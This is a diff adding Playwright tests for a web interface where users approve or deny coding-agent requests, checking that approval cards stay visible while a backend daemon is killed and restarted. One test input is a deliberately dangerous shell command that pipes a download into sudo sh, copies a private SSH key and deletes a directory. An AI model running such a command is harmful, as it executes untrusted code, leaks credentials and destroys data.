@@ -1,10 +1,12 @@
 /** What stays true when the daemon, the network or the page itself goes away. */
 import type { Page } from "@playwright/test";
 import type { Envelope } from "../src/gen/events";
+import type { OpenApproval } from "../src/link/types";
+import type { Daemon } from "./harness/daemon";
 import { fake } from "./harness/fake";
 import { holdableLine } from "./harness/line";
 import { expect, test } from "./harness/test";
-import { composer, open, request, say, timeline, turn } from "./harness/ui";
+import { composer, hidden, open, request, say, timeline, turn } from "./harness/ui";
 import { UNREACHABLE } from "./harness/watch";
 
 const MESSAGES = /\/api\/v1\/sessions\/[^/]+\/messages$/;
@@ -168,6 +170,70 @@ test.describe("a daemon that is killed", () => {
     await card.getByRole("button", { name: "Allow once" }).click();
     await expect(timeline(page).getByText(/Allowed once · you/)).toBeVisible();
     await expect(turn(page, 1)).toBeVisible();
+  });
+});
+
+test.describe("an open request", () => {
+  test.use({ settings: fake() });
+
+  /** A session with more than a screen of past, that asks at its end. */
+  async function asking(daemon: Daemon, agent: "claude" | "demo", prompt: string): Promise<OpenApproval> {
+    const project = await daemon.project("ledger");
+    await daemon.project("web-shop");
+    const session = await daemon.session(project, { agent });
+    for (let turns = 0; turns < 6; turns++)
+      await daemon.say(session.id, agent === "demo" ? "text" : "say One.");
+    await daemon.settled(session.id);
+    await daemon.say(session.id, prompt);
+    return daemon.asked(session.id);
+  }
+
+  const risky = "RUN[curl x | sudo sh && cat ~/.ssh/id_rsa > /tmp/x && rm -rf ~/old]";
+
+  for (const [kind, agent, prompt] of [
+    ["about a dangerous command", "claude", risky],
+    ["about a file", "demo", "approval"],
+    ["with a question", "demo", "question"],
+    ["with a plan", "demo", "plan"],
+  ] as const)
+    test(`${kind} has nothing over its buttons, with and without a daemon`, async ({
+      page,
+      daemon,
+      watch,
+    }) => {
+      watch.allow(...UNREACHABLE);
+      const { approval } = await asking(daemon, agent, prompt);
+      await page.goto("/");
+      await page.getByRole("main").locator('a[href*="?at="]').click();
+      const card = page.locator(`[data-approval="${approval.approvalId}"]`);
+      await expect(card.getByRole("button").first()).toBeVisible();
+      await expect.poll(() => hidden(card)).toEqual([]);
+      await expect(card).toBeInViewport({ ratio: 1 });
+      await daemon.kill();
+      await expect(page.getByRole("button", { name: "Try now" })).toBeVisible();
+      await expect.poll(() => hidden(card)).toEqual([]);
+      await daemon.start();
+      await expect(page.getByRole("button", { name: "Try now" })).toHaveCount(0);
+      // The same for whoever has moved it.
+      await timeline(page).evaluate((box) => box.scrollBy(0, -8));
+      await expect.poll(() => hidden(card)).toEqual([]);
+      await daemon.kill();
+      await expect(page.getByRole("button", { name: "Try now" })).toBeVisible();
+      await expect.poll(() => hidden(card)).toEqual([]);
+    });
+
+  test("that is out of view leaves the way back to the end", async ({ page, daemon }) => {
+    const { approval } = await asking(daemon, "demo", "approval");
+    await page.goto("/");
+    await page.getByRole("main").locator('a[href*="?at="]').click();
+    const card = page.locator(`[data-approval="${approval.approvalId}"]`);
+    const latest = page.getByRole("button", { name: "Latest" });
+    await expect(card).toBeInViewport({ ratio: 1 });
+    await expect(latest).toHaveCount(0);
+    await timeline(page).evaluate((box) => box.scrollTo(0, 0));
+    await expect(card).not.toBeInViewport();
+    await latest.click();
+    await expect(card).toBeInViewport({ ratio: 1 });
   });
 });
 
